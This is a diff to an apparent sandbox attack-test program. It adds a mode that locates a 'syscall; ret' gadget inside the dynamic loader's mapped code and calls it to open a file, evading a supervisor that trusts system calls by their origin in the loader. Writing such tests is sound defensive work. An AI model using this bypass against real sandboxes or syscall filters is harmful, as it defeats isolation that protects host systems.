@@ -15,6 +15,7 @@
  *					the place of a file of the guest that is read again
  *	attack-host swap-mode INSIDE	the same with the file INSIDE of --host-files, whose
  *					mode changes
+ *	attack-host loader FILE		open FILE from within the loader's code
  */
 #ifndef _GNU_SOURCE
 #define _GNU_SOURCE
@@ -431,6 +432,41 @@ static void race_swap(const char *file, int flags, int number, int rounds)
 	pthread_join(t, NULL);
 }
 
+/* "syscall; ret" within the loader: the supervisor knows that one by where it runs. */
+static const unsigned char *loader_gadget(void)
+{
+	FILE *maps = fopen("/proc/self/maps", "r");
+	unsigned long at, end;
+	char line[512], rights[8];
+
+	while (maps && fgets(line, sizeof(line), maps)) {
+		if (sscanf(line, "%lx-%lx %7s", &at, &end, rights) != 3 || rights[2] != 'x' ||
+		    !strstr(line, "/ld"))
+			continue;
+		for (; at + 3 <= end; at++)
+			if (!memcmp((void *)at, "\x0f\x05\xc3", 3))
+				return (void *)at;
+	}
+	return NULL;
+}
+
+static void loader(const char *file)
+{
+	const unsigned char *gadget = loader_gadget();
+	long ret = SYS_openat;
+	register long flags asm("r10") = 0;
+
+	if (!gadget) {
+		row("no system call in the loader", 1);
+		return;
+	}
+	asm volatile("call *%1"
+		     : "+a"(ret)
+		     : "r"(gadget), "D"((long)AT_FDCWD), "S"(file), "d"(O_RDONLY), "r"(flags)
+		     : "rcx", "r11", "memory");
+	row(file, ret >= 0);
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IOLBF, 0);
@@ -454,6 +490,8 @@ int main(int argc, char **argv)
 		race_swap("/proc/stat", O_RDONLY, 600, 100);
 	} else if (argc == 3 && !strcmp(argv[1], "swap-mode")) {
 		race_swap(argv[2], O_RDWR | O_CREAT, 100, 20000);
+	} else if (argc == 3 && !strcmp(argv[1], "loader")) {
+		loader(argv[2]);
 	} else {
 		descriptors();
 	}
